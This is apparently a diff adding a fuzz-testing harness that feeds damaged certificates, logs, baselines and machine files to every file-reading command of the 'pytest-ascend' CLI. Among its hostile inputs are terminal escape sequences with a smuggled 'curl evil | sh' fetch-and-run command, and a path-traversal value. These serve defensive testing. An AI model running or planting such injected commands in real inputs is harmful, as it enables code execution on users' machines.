@@ -1,0 +1,372 @@
+"""Every command of ``pytest-ascend`` that reads files, given hostile ones. For :mod:`fuzzing`.
+
+A scene is a folder of files that are well. For each input, one of them is damaged by a seed: by what can stand in the
+place of a file (a pipe, a folder, a loop of links, a file of 3 TiB without content), by values that no field takes, or
+byte by byte. A certificate is damaged before it is signed, too: its issuer is whom a verifier trusts least.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import os
+import re
+import resource
+import shutil
+import signal
+import sys
+import tempfile
+import time
+import traceback
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass, replace
+from hashlib import sha256
+from pathlib import Path
+from random import Random
+from typing import Any
+
+import click
+
+from pytest_ascend import cli
+from pytest_ascend.certificate import commands as certifying
+from pytest_ascend.certificate import package, revocation, signing
+from pytest_ascend.coverage import commands
+from pytest_ascend.golden import Golden, GoldenStore
+from pytest_ascend.golden.manifest import Made
+from pytest_ascend.runlog.contents import Selection, digest
+from pytest_ascend.runlog.writing import RunLog
+from pytest_ascend.verdict.summary import summarise
+from tests.unit.certificate import runs
+from tests.unit.environment.test_npu_smi import A2
+from tests.unit.runlog import synthetic
+
+ROOT = Path(__file__).resolve().parents[1]
+SECONDS, MEMORY_MIB = 20, 500
+#: Inputs that one child takes, whose memory is then looked at.
+BATCH = 20
+
+ESCAPES = "\x1b]0;harmed\x07\x1b[2J; curl evil | sh"
+#: Raw JSON for the place of a value.
+VALUES = (
+    *("null", "-1", "true", "{}", "[]", '""', "NaN", "1e999", "-1e308", "1e308", "5e-324", "9" * 5000, "1" + "0" * 400),
+    *("-0.0", "18446744073709551617", '"9999-12-31T23:59:59-12:00"', '"0001-01-01T00:00:00+23:59"', '"9999-12-31"'),
+    *("[" * 40 + "]" * 40, "[" * 100_000, '{"a":' * 50 + "1" + "}" * 50, json.dumps(ESCAPES), '"\\ud800"', '"../../x"'),
+    *('"' + "x" * 1_000_000 + '"', "[" + "0," * 100_000 + "0]", '{"a":1,"a":2}', '"__class__"', '"\\u0000"', '"%s{0}"'),
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Command:
+    """A command line, and which of the scene's files may be damaged. ``signed`` ones are signed again afterwards."""
+
+    line: str
+    files: tuple[str, ...]
+    signed: tuple[str, ...] = ()
+
+
+_EVIDENCE = tuple(f"certificate/{name}" for name in package.FILES)
+_GOLDENS = tuple(f"baselines/golden/{name}" for name in ("manifest.json", "ops/one.safetensors", "revoked.json"))
+_MACHINE = tuple(f"machine/{name}" for name in ("usr/local/Ascend/driver/version.info", "etc/ascend_install.info"))
+COMMANDS: Mapping[str, Command] = {
+    "certify": Command("certify run --key key --tier performance --issuer me -o made", ("key", "run/run.jsonl")),
+    "verify": Command(
+        "verify certificate --key key.pub --revocations list.json --compatibility compatibility.json",
+        ("key.pub", "list.json", "compatibility.json", *_EVIDENCE),
+        ("certificate.json", "run.jsonl", "manifest.json", "list.json"),
+    ),
+    "revoke": Command(f"revoke {'a' * 32} --key key --reason because --list list.json", ("key", "list.json")),
+    "certificate-key": Command("certificate-key key", ("key", "key.pub")),
+    "report render": Command("report render log -o page.html --against before", ("log/run.jsonl", "before/run.jsonl")),
+    "report summary": Command("report summary log", ("log/run.jsonl",)),
+    "report diff": Command("report diff before log --format html -o diff.html", ("log/run.jsonl", "before/run.jsonl")),
+    "report diff terminal": Command("report diff before log", ("log/run.jsonl", "before/run.jsonl")),
+    "report matrix": Command("report matrix log before run", ("log/run.jsonl", "before/run.jsonl", "run/run.jsonl")),
+    "report merge": Command("report merge part-1 part-2 -o whole", ("part-1/run.jsonl", "part-2/run.jsonl")),
+    "baseline verify": Command("baseline verify --baselines baselines", _GOLDENS),
+    "baseline show": Command("baseline show ops/one --baselines baselines", _GOLDENS),
+    "baseline revoke": Command("baseline revoke ops/one --reason r --baselines baselines", _GOLDENS),
+    "baseline record": Command(
+        "baseline record timed-1 timed-2 timed-3 --baselines baselines", ("timed-1/run.jsonl", "timed-2/run.jsonl")
+    ),
+    "census diff": Command("census diff one.json two.json", ("one.json", "two.json")),
+    "doctor": Command(
+        "doctor --root machine --environ environ --npu-smi npu-smi --compatibility compatibility.json",
+        ("environ", "npu-smi", "compatibility.json", *_MACHINE),
+    ),
+    "manifest": Command("manifest --durations log", ("log/run.jsonl",)),
+    "analyze": Command("analyze --source sources --census one.json", ("sources/train.py", "one.json")),
+}
+
+
+def scene(folder: Path) -> None:
+    """Write files that are well for every command, with the keys of :mod:`tests.unit.certificate.runs`."""
+    from fuzz_targets import TARGETS  # noqa: PLC0415  (loads torch)
+
+    os.chdir(folder)
+    folder = Path()
+    for name, target in {"one.json": "census", "two.json": "census", "sources/train.py": "source"}.items():
+        Path(name).parent.mkdir(exist_ok=True)
+        TARGETS[target].seed(Path(name))
+    runs.certificate(folder)
+    _keys(folder)
+    revocation.add(Path("list.json"), "a" * 32, "because", runs.KEY, on=runs.ISSUED)
+    shutil.copy(Path(cli.__file__).parent / "environment" / "compatibility.json", "compatibility.json")
+    cases = [*synthetic.op_cases(20), *synthetic.other_cases()]
+    for name, outcomes in {"log": ("passed", "failed", "errored"), "before": ("passed",)}.items():
+        synthetic.write_log(Path(name, "run.jsonl"), cases, outcomes=outcomes, stack=synthetic.HARDWARE)
+    _shards(cases)
+    _timed()
+    _goldens()
+    Path("machine/usr/local/Ascend/driver").mkdir(parents=True)
+    Path("machine/usr/local/Ascend/driver/version.info").write_text("Version=25.5.1\n")
+    Path("machine/etc").mkdir()
+    Path("machine/etc/ascend_install.info").write_text("Driver_Install_Path_Param=/usr/local/Ascend\n")
+    Path("environ").write_text("ASCEND_HOME_PATH=/usr/local/Ascend\nPATH=/usr/bin\n")
+    Path("npu-smi").write_text(A2)
+
+
+def _keys(folder: Path) -> None:
+    from cryptography.hazmat.primitives import serialization as form  # noqa: PLC0415
+
+    pem = runs.KEY.private_bytes(form.Encoding.PEM, form.PrivateFormat.PKCS8, form.NoEncryption())
+    (folder / "key").write_bytes(pem)
+    shown = runs.KEY.public_key().public_bytes(form.Encoding.PEM, form.PublicFormat.SubjectPublicKeyInfo)
+    (folder / "key.pub").write_bytes(shown)
+
+
+def _shards(cases: list[Any]) -> None:
+    whole = {"count": 2, "cases": len(cases), "digest": digest(case.id for case in cases)}
+    for index in (1, 2):
+        mine = cases[index - 1 :: 2]
+        header = synthetic.header(mine, stack=synthetic.HARDWARE, selection=Selection("subset", f"shard {index}/2"))
+        shard = {**whole, "index": index, "selection": {"kind": "full", "reason": ""}}
+        log = RunLog.create(Path(f"part-{index}", "run.jsonl"), replace(header, shard=shard), durable=False)
+        for case in mine:
+            log.append(synthetic.passed(case))
+        log.finish(summarise(log.contents()).footer(synthetic.FINISHED))
+        log.close()
+
+
+def _timed() -> None:
+    case, chance = synthetic.other_cases()[-2], Random(1)  # noqa: S311
+    for index in (1, 2, 3):
+        log = RunLog.create(Path(f"timed-{index}", "run.jsonl"), synthetic.header([case]), durable=False)
+        times = [100 + chance.random() for _ in range(20)]
+        figures = {"latency_p50_us": times[10]}
+        log.append(replace(synthetic.passed(case), series={"latency_us": times}, measurements=figures))
+        log.finish(summarise(log.contents()).footer(synthetic.FINISHED))
+        log.close()
+
+
+def _goldens() -> None:
+    import torch  # noqa: PLC0415
+
+    store = GoldenStore(Path("baselines", "golden"))
+    made = Made(how="h", generator="g@1", seed="0", torch="2", numpy="2", machine="m")
+    for name in ("ops/one", "ops/two"):
+        store.stage(Golden(name, {"x": torch.ones(3)}, {"a": 1}), made)
+    store.flush()
+    store.revoke("ops/two", "because")
+
+
+# --- damage ---
+
+
+def damage(path: Path, chance: Random) -> str:
+    """Do something to a file, and say what."""
+    data = path.read_bytes()
+    way = chance.random()
+    if way < 0.2:
+        name = chance.choice(list(NO_FILES))
+        path.unlink()
+        NO_FILES[name](path)
+        return name
+    if way < 0.7 and data[:1] in b"{[" and data:
+        return _other_value(path, data, chance)
+    for _ in range(chance.randrange(1, 5)):
+        place = chance.randrange(len(data) + 1)
+        data = data[:place] + chance.choice(PIECES) + data[place + chance.choice((0, 0, 1, 40)) :]
+    path.write_bytes(data)
+    return "bytes"
+
+
+NO_FILES: Mapping[str, Callable[[Path], object]] = {
+    "a pipe": os.mkfifo,
+    "a folder": Path.mkdir,
+    "a loop of links": lambda path: path.symlink_to(path.name),
+    "a device": lambda path: path.symlink_to("/dev/zero"),
+    "nothing": lambda _: None,
+    "empty": lambda path: path.write_bytes(b""),
+    "3 TiB": lambda path: (path.touch(), os.truncate(path, 3 << 40)),
+    "1 GiB of nothing": lambda path: (path.touch(), os.truncate(path, 1 << 30)),
+    "deep": lambda path: path.write_text("[" * 1_000_000),
+    "wide": lambda path: path.write_text("[" + "[]," * 5_000_000 + "[]]\n"),
+    "half a gigabyte of lines": lambda path: path.write_text("{}\n" * 2_000_000),
+    "UTF-16": lambda path: path.write_bytes("{}".encode("utf-16")),
+}
+PIECES = (b"", b"\0", b"\xff", b"\x1b]0;harmed\x07", b"{", b"]", b'"', b"\n", b"9" * 5000, b"=", b"|", b"\\ud800")
+
+
+def _other_value(path: Path, data: bytes, chance: Random) -> str:
+    """Put a value that nobody expects in the place of one of JSON, of one line where each is JSON of its own."""
+    lines = data.splitlines(keepends=True) if path.suffix == ".jsonl" else [data]
+    index = min(int(chance.expovariate(0.3)), len(lines) - 1) if chance.random() < 0.8 else len(lines) - 1
+    found = json.loads(lines[index])
+    where, holder, key = chance.choice(list(_places(found))[:4000])
+    raw = chance.choice(VALUES)
+    holder[key] = "@@@"
+    lines[index] = json.dumps(found).replace('"@@@"', raw).encode() + b"\n"
+    if chance.random() < 0.1:
+        lines.insert(index, lines[index])
+    path.write_bytes(b"".join(lines))
+    return f"{where} is {raw[:20]}"
+
+
+def _places(value: Any, path: str = "") -> Iterator[tuple[str, Any, Any]]:
+    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, inner in pairs:
+        yield f"{path}.{key}", value, key
+        yield from _places(inner, f"{path}.{key}")
+
+
+def sign_again(name: str) -> None:
+    """Sign a damaged part of the certificate, or the list, as their issuer can; if they can."""
+    if name == "list.json":
+        body = json.loads(Path(name).read_bytes())
+        del body["signature"]
+        body["signature"] = signing.sign(runs.KEY, "revocations", _digest(json.dumps(body)))
+        Path(name).write_text(json.dumps(body))
+        return
+    folder = Path("certificate")
+    content = (folder / "certificate.json").read_bytes()
+    if name != "certificate.json":
+        said, part = json.loads(content), (folder / name).read_bytes()
+        said["parts"][name] = {"sha256": sha256(part).hexdigest(), "size_bytes": len(part)}
+        said["id"] = package.identity({key: value for key, value in said.items() if key != "id"})
+        content = package.encoded(said)
+        (folder / "certificate.txt").write_text(package.words(said))
+    with contextlib.suppress(ValueError, TypeError):
+        said = json.loads(content)
+        identity = package.identity({key: value for key, value in said.items() if key != "id"})
+        content = content.replace(str(said["id"]).encode(), identity.encode())
+        (folder / "certificate.txt").write_text(package.words(json.loads(content)))
+    (folder / "certificate.json").write_bytes(content)
+    digest_ = sha256(content).hexdigest()
+    key = signing.fingerprint(runs.KEY.public_key())
+    signature = {"sha256": digest_, "key": key, "signature": signing.sign(runs.KEY, "certificate", digest_)}
+    (folder / "certificate.sig").write_bytes(package.encoded(signature))
+
+
+def _digest(text: str) -> str:
+    return sha256(text.encode()).hexdigest()
+
+
+# --- one input ---
+
+
+def findings(seed: int, names: tuple[str, ...] = ()) -> list[str]:
+    """Run one command on one hostile file, in the scene that is the current folder; return what is wrong with it."""
+    chance = Random(seed)  # noqa: S311
+    name = chance.choice(sorted(names or COMMANDS))
+    command = COMMANDS[name]
+    file = chance.choice(command.files)
+    what = damage(Path(file), chance)
+    if Path(file).name in command.signed and Path(file).is_file() and chance.random() < 0.7:
+        with contextlib.suppress(ValueError, TypeError, KeyError, AttributeError, RecursionError, OSError):
+            sign_again(Path(file).name)
+    began = time.monotonic()
+    code, said = _run(command.line.split())
+    about = f"seed {seed}: {name}, {file}, {what}"
+    found = [f"{about}: {said[-1500:]}"] if code not in range(8) else []
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", said)
+    if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", plain):
+        found.append(f"{about}: raw characters on the terminal: {plain[:300]!a}")
+    if re.search(r"hint:.*curl", said):
+        found.append(f"{about}: a hint that repeats foreign text: {plain[-300:]!a}")
+    if code > 1 and not plain.strip():
+        found.append(f"{about}: exit code {code} without a word")
+    if time.monotonic() - began > SECONDS / 2:
+        found.append(f"{about}: took {time.monotonic() - began:.0f} s")
+    return found
+
+
+class _TooLongError(BaseException):
+    pass
+
+
+def _run(line: list[str]) -> tuple[int, str]:
+    """Run a command line here; -1 for a traceback, -2 for a hang."""
+
+    def late(*_: object) -> None:
+        raise _TooLongError
+
+    signal.signal(signal.SIGALRM, late)
+    out = io.StringIO()
+    code = 0
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
+        signal.alarm(SECONDS)
+        try:
+            sys.argv = ["pytest-ascend", *line]
+            cli.main()
+        except SystemExit as end:
+            code = end.code if isinstance(end.code, int) else bool(end.code)
+        except _TooLongError:
+            code = -2
+            out.write(f"no end within {SECONDS} s")
+        except BaseException:  # noqa: BLE001
+            code = -1
+            out.write(traceback.format_exc())
+        finally:
+            signal.alarm(0)
+    return code, out.getvalue()
+
+
+def attack(count: int, names: tuple[str, ...], first: int = 0) -> tuple[list[str], int]:
+    """Give commands ``count`` hostile files; return what is wrong, and the most memory that a process took, in MiB."""
+    home = tempfile.mkdtemp(prefix="hostile-")
+    well = Path(home, "well")
+    well.mkdir()
+    scene(well)
+    _show_escapes()
+    found, most = [], 0
+    for start in range(first, first + count, BATCH):
+        reading, writing = os.pipe()
+        if not os.fork():
+            _batch(well, range(start, min(start + BATCH, first + count)), names, writing)
+        os.close(writing)
+        with os.fdopen(reading) as pipe:
+            lines = [json.loads(line) for line in pipe]
+        os.wait()
+        if not lines or not isinstance(lines[-1], int):
+            found.append(f"seeds from {start}: the process died")
+        else:
+            most = max(most, lines[-1])
+            found += [*lines[:-1], *([f"seeds from {start}: {lines[-1]} MiB"] if lines[-1] > MEMORY_MIB else [])]
+    os.chdir(ROOT)
+    shutil.rmtree(home)
+    return found, most
+
+
+def _batch(well: Path, seeds: range, names: tuple[str, ...], writing: int) -> None:
+    """Take some inputs, each in a fresh copy of the scene, and end this process."""
+    with os.fdopen(writing, "w") as pipe, tempfile.TemporaryDirectory(prefix="hostile-") as scratch:
+        for seed in seeds:
+            here = Path(scratch, str(seed))
+            shutil.copytree(well, here)
+            os.chdir(here)
+            commands.folder = lambda _, here=here: here
+            certifying.installed = lambda: runs.RELEASE
+            for each in findings(seed, names):
+                pipe.write(f"{json.dumps(each)}\n")
+            os.chdir(scratch)
+            shutil.rmtree(here, ignore_errors=True)
+        pipe.write(f"{resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10}\n")
+        pipe.flush()
+        os.chdir(ROOT)
+    os._exit(0)
+
+
+def _show_escapes() -> None:
+    """Have click hand on what a terminal would get: it takes escapes out where it writes to a file."""
+    click.utils.should_strip_ansi = lambda *_, **__: False  # type: ignore[attr-defined]
